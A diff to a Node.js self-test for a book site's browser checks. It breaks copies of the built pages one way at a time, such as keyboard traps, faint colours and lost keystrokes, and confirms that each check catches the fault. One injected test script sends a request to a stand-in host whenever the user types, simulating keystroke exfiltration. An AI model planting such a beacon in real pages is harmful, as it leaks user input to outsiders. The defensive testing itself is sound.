@@ -1,10 +1,12 @@
 // Sees each browser check fail: breaks a copy of the built book in one way
 // at a time and runs the check that must catch it, which must exit 1 and
-// say what broke. Exits 1 if a check let a breakage through.
+// say what broke; and the same for the check that theme/'s minified files
+// are what their sources make (on a copy of theme/). Exits 1 if a check let
+// a breakage through.
 //
 //   node tests/browser/self-test.mjs BOOK_HTML_DIR
 import { spawnSync } from 'node:child_process';
-import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { appendFile, cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -13,6 +15,10 @@ import { firstListingPage } from './summary.mjs';
 const here = dirname(fileURLToPath(import.meta.url));
 const [root = 'book/html'] = process.argv.slice(2);
 const chapter = await firstListingPage(root);
+// The typing mode's file in the built book (hashed by mdBook).
+const typingFile = (await readdir(join(root, 'fonts'))).find((f) => /^cbh-typeit.*\.js$/.test(f));
+// A script the page runs before anything else, breaking it for the test.
+const early = (js) => (h) => h.replace('<head>', `<head><script>${js}</script>`);
 
 const breakages = [
   { what: 'a script tag that loads from another origin', script: 'pages.mjs',
@@ -35,8 +41,10 @@ const breakages = [
   { what: 'hidden lines that no longer hide', script: 'behaviour.mjs',
     edit: (h) => h.replace('</head>', '<style>.boring { display: inline !important; }</style></head>'),
     says: 'FAIL hidden lines' },
-  { what: 'search teasers with the notes\' numbers in them', script: 'behaviour.mjs',
-    edit: (h) => h.replace(/<script src="[^"]*cbh-search[^"]*\.js"><\/script>/, ''),
+  { what: 'search teasers with the notes\' numbers in them (their cleaner, loaded when search opens, gone)', script: 'behaviour.mjs',
+    prepare: async (dir) => {
+      for (const f of await readdir(join(dir, 'fonts'))) if (f.startsWith('cbh-search')) await rm(join(dir, 'fonts', f));
+    },
     says: 'FAIL search: no note numbers in the teasers' },
   { what: 'a label that names the wrong file', script: 'reader.mjs',
     edit: (h) => h.replace('<code class="cbh-listing-file">src/main.rs</code>', '<code class="cbh-listing-file">src/lib.rs</code>'),
@@ -56,23 +64,91 @@ const breakages = [
   { what: 'figure labels shrunk on a phone', script: 'reader.mjs',
     edit: (h) => h.replace('</head>', '<style>.cbh-figure img { min-width: 0 !important; }</style></head>'),
     says: 'smallest label shows at' },
+  // Code that fits, and highlighting (issue 22).
+  { what: 'code blocks held to the text\'s measure at 1280 px', script: 'reader.mjs',
+    edit: (h) => h.replace('</head>', '<style>main pre, main .cbh-listing-label { width: auto !important; margin-inline: 0 !important; }</style></head>'),
+    says: 'the code column holds' },
+  { what: 'a terminal session whose grammar never comes', script: 'reader.mjs',
+    prepare: async (dir) => {
+      for (const f of await readdir(join(dir, 'fonts'))) if (f.startsWith('cbh-highlight-later')) await rm(join(dir, 'fonts', f));
+    },
+    edit: (h) => h.replace('</main>', '<pre><code class="language-console">$ cargo run\nhello\n</code></pre></main>'),
+    says: 'no grammar came for console' },
+  // "Type it" (issue 22).
+  { what: 'a typing mode that loses a keystroke (every ";")', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
+    edit: early("document.addEventListener('beforeinput', (e) => { if (e.data === ';') e.preventDefault(); }, true);"),
+    says: 'FAIL 1280px: typing block 1 exactly' },
+  { what: 'the typing mode downloaded with the page', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
+    edit: (h) => h.replace('</head>', `<script src="fonts/${typingFile}"></script></head>`),
+    says: 'FAIL 1280px: the typing mode is not downloaded on load' },
+  { what: 'a typing mode that reports keystrokes to another origin', script: 'typeit.mjs', env: { TYPEIT_PART: 'listings' },
+    edit: early("document.addEventListener('input', () => fetch('https://static.example.org/keys', { mode: 'no-cors' }).catch(() => {}), { once: true });"),
+    says: 'FAIL 1280px: no request leaves the origin while typing' },
+  { what: 'slips drawn beside their place (the faded listing out of line with the box)', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
+    edit: (h) => h.replace('</head>', '<style>.cbh-ti-layer { padding-left: 2rem !important; }</style></head>'),
+    says: 'FAIL a slip is marked at its line and column' },
+  { what: 'slips not shown', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
+    edit: (h) => h.replace('</head>', '<style>.cbh-ti-slip { background: none !important; text-decoration: none !important; }</style></head>'),
+    says: 'FAIL a slip is visible' },
+  { what: 'slips kept from assistive technology (aria-invalid never set)', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
+    edit: early("new MutationObserver((ms) => ms.forEach((m) => { if (m.target.getAttribute('aria-invalid') === 'true') m.target.setAttribute('aria-invalid', 'false'); })).observe(document, { subtree: true, attributes: true, attributeFilter: ['aria-invalid'] });"),
+    says: 'FAIL a slip makes the box aria-invalid' },
+  { what: 'Backspace that does not take a slip away', script: 'typeit.mjs', env: { TYPEIT_PART: 'slips' },
+    edit: early("document.addEventListener('beforeinput', (e) => { if (e.inputType === 'deleteContentBackward') e.preventDefault(); }, true);"),
+    says: 'FAIL Backspace clears the slip' },
+  { what: 'a keyboard trap in the typing box', script: 'typeit.mjs', env: { TYPEIT_PART: 'keyboard' },
+    edit: early("document.addEventListener('keydown', (e) => { if (e.key === 'Tab' && e.target.classList && e.target.classList.contains('cbh-ti-input')) e.preventDefault(); }, true);"),
+    says: 'FAIL keyboard: Shift+Tab leaves the box' },
+  { what: '"Type it" out of the Tab order', script: 'typeit.mjs', env: { TYPEIT_PART: 'keyboard' },
+    edit: (h) => h.replace('</body>', '<script>document.querySelectorAll(".cbh-typeit-button").forEach((b) => { b.tabIndex = -1; });</script></body>'),
+    says: 'FAIL keyboard: Tab reaches "Type it"' },
+  { what: '"Run what you typed" with no checked output to compare with', script: 'typeit.mjs', env: { TYPEIT_PART: 'run' },
+    edit: (h) => h.replace(/<div hidden[^>]*class="cbh-output-of"[^>]*>\s*<\/div>/g, ''),
+    says: 'FAIL run (same): what it printed is compared with the book\'s checked output' },
+  { what: 'the typing mode in colours axe-core flags (a button of it unreadable)', script: 'pages.mjs',
+    edit: (h) => h.replace('</head>', '<style>.cbh-ti-bar button { color: #ccc !important; }</style></head>'),
+    says: `FAIL ${chapter} light 1280px typing` },
+  { what: 'the faded listing too faint to read (under the box, where axe-core cannot see it)', script: 'contrast.mjs',
+    edit: (h) => h.replace('</head>', '<style>.cbh-ti-rest { color: #d4d4d4 !important; }</style></head>'),
+    says: /typing: the faded listing \(text\) +[\d.]+:1 FAIL/ },
 ];
 
+// Checks that are not run in a browser, broken on a copy of theme/.
+const themeBreakages = [
+  { what: 'a minified file its source no longer makes', script: '../../theme/tools/minify.mjs', args: ['--check'],
+    prepare: (dir) => appendFile(join(dir, 'cbh-search.js'), '\nwindow.cbhStale = true;\n'),
+    says: 'FAIL theme/fonts/cbh-search.min.js' },
+];
+
+// SELF_TEST_ONLY=words runs only the breakages whose description has them.
+const only = (b) => !process.env.SELF_TEST_ONLY || b.what.includes(process.env.SELF_TEST_ONLY);
 let letThrough = 0;
-for (const b of breakages) {
+for (const b of breakages.filter(only)) {
   const dir = await mkdtemp(join(tmpdir(), 'broken-page-'));
   await cp(root, dir, { recursive: true });
   const page = join(dir, chapter);
   const html = await readFile(page, 'utf8');
-  const broken = b.edit(html);
-  if (broken === html) throw new Error(`could not break the page: ${b.what}`);
+  const broken = b.edit ? b.edit(html) : html;
+  if (broken === html && !b.prepare) throw new Error(`could not break the page: ${b.what}`);
   await writeFile(page, broken);
+  if (b.prepare) await b.prepare(dir);
   const run = spawnSync(process.execPath, [join(here, b.script), dir], {
-    encoding: 'utf8', env: { ...process.env, ONLY_PAGE: chapter, ONLY_THEME: 'light' } });
-  const caught = run.status === 1 && run.stdout.includes(b.says);
+    encoding: 'utf8', env: { ...process.env, ONLY_PAGE: chapter, ONLY_THEME: 'light', ...b.env } });
+  const caught = run.status === 1 && (b.says instanceof RegExp ? b.says.test(run.stdout) : run.stdout.includes(b.says));
   if (!caught) letThrough++;
   console.log(`${caught ? 'ok  ' : 'FAIL'} ${b.script} catches ${b.what}${caught ? '' : ` (exit ${run.status}; expected "${b.says}")`}`);
   if (!caught) console.log(run.stdout.split('\n').filter((l) => /FAIL|axe|request|console/.test(l)).slice(0, 10).join('\n'));
+  await rm(dir, { recursive: true, force: true });
+}
+for (const b of themeBreakages.filter(only)) {
+  const dir = await mkdtemp(join(tmpdir(), 'broken-theme-'));
+  await cp(join(here, '../../theme'), dir, { recursive: true, filter: (f) => !f.includes('node_modules') });
+  await b.prepare(dir);
+  const run = spawnSync(process.execPath, [join(here, b.script), ...b.args, '--theme', dir], { encoding: 'utf8' });
+  const caught = run.status === 1 && run.stdout.includes(b.says);
+  if (!caught) letThrough++;
+  console.log(`${caught ? 'ok  ' : 'FAIL'} ${b.script.split('/').pop()} catches ${b.what}${caught ? '' : ` (exit ${run.status}; expected "${b.says}")`}`);
+  if (!caught) console.log((run.stdout + run.stderr).split('\n').slice(0, 10).join('\n'));
   await rm(dir, { recursive: true, force: true });
 }
 process.exit(letThrough ? 1 : 0);
